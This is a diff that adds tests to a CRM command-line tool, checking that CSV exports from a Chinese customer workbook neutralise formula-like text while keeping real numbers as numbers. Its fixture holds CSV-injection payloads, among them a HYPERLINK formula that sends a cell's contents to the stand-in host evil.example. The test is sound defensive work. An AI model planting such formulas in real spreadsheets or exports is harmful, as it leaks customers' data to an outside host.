@@ -8,6 +8,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import ExcelJS from 'exceljs';
+import Papa from 'papaparse';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 
 const ROOT = fileURLToPath(new URL('..', import.meta.url));
@@ -179,5 +180,95 @@ describe('--help promises only what the commands do', () => {
     expect(classify).toContain('--in-place');
     expect(classify).toContain('after saving it as a .bak beside it');
     expect(classify).toContain('never one of the inputs');
+  });
+});
+
+/** A customer workbook whose text cells would all run as formulas if a CSV carried them bare. */
+async function hostileWorkbook(path: string): Promise<void> {
+  const workbook = new ExcelJS.Workbook();
+  const sheet = workbook.addWorksheet('客户');
+  sheet.addRow(['客户编号', '姓名', '公司', '手机', '最近购买日期', '消费金额', '备注', '余额']);
+  const link = '=HYPERLINK("http://evil.example/?"&A2,"点我")';
+  sheet.addRow(['C001', link, '+1+1', '+8613912345678', new Date(Date.UTC(2026, 1, 2)), 1200, '@SUM(1)', -5]);
+  sheet.addRow([
+    'C002',
+    '-2+3',
+    '\t=1+1',
+    '13912345679',
+    new Date(Date.UTC(2026, 0, 15)),
+    300,
+    '=1+1',
+    -1234.5,
+  ]);
+  sheet.addRow([
+    'C003',
+    '张三',
+    '上海云杉贸易有限公司',
+    '13812345678',
+    new Date(Date.UTC(2025, 11, 1)),
+    80,
+    '老客户',
+    0,
+  ]);
+  await workbook.xlsx.writeFile(path);
+}
+
+/** Every cell of a CSV file as a spreadsheet would receive it (the BOM dropped). */
+async function csvCells(path: string): Promise<string[][]> {
+  const text = (await readFile(path, 'utf8')).replace(/^\uFEFF/, '');
+  return Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
+}
+
+describe('text stays text in every CSV crm writes', () => {
+  it('classify, clean and followups neutralise formula-like text from an .xlsx; real numbers stay numbers', async () => {
+    const folder = join(dir, 'hostile');
+    await mkdir(folder, { recursive: true });
+    const book = join(folder, 'customers.xlsx');
+    await hostileWorkbook(book);
+    for (const [command, out] of [
+      ['classify', 'classified.csv'],
+      ['clean', 'review.csv'],
+      ['followups', 'tasks.csv'],
+    ] as const) {
+      const run = crm([command, '--in', book, '--today', TODAY, '--quiet', '--out', join(folder, out)]);
+      expect(run.code, run.stderr).toBe(0);
+      const cells = (await csvCells(join(folder, out))).flat();
+      const live = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-\d+(?:\.\d+)?$/.test(cell));
+      expect(live, `${command}: cells a spreadsheet would run`).toEqual([]);
+    }
+    const classified = await csvCells(join(folder, 'classified.csv'));
+    expect(classified[1]?.slice(0, 4)).toEqual([
+      'C001',
+      `'=HYPERLINK("http://evil.example/?"&A2,"点我")`,
+      "'+1+1",
+      "'+8613912345678",
+    ]);
+    expect(classified[1]?.[6]).toBe("'@SUM(1)");
+    expect(classified[2]?.slice(0, 3)).toEqual(['C002', "'-2+3", "'\t=1+1"]);
+    expect(classified[2]?.[6]).toBe("'=1+1");
+    // The balance column holds real numbers: a negative one is written as the number it is.
+    expect(classified.slice(1).map((row) => row[7])).toEqual(['-5', '-1234.5', '0']);
+  });
+
+  it('reads its own CSV back as the table it came from (phones, names, the apostrophe gone)', async () => {
+    const folder = join(dir, 'hostile');
+    const again = crm([
+      'classify',
+      '--in',
+      join(folder, 'classified.csv'),
+      '--today',
+      TODAY,
+      '--json',
+      '--quiet',
+    ]);
+    expect(again.code, again.stderr).toBe(0);
+    const customers = (JSON.parse(again.stdout) as { customers: { id: string; name: string }[] }).customers;
+    expect(customers.map((c) => c.name)).toEqual([
+      '=HYPERLINK("http://evil.example/?"&A2,"点我")',
+      '-2+3',
+      '张三',
+    ]);
+    const issues = (JSON.parse(again.stdout) as { issues: { column: string }[] }).issues;
+    expect(issues.filter((issue) => issue.column === '手机')).toEqual([]);
   });
 });
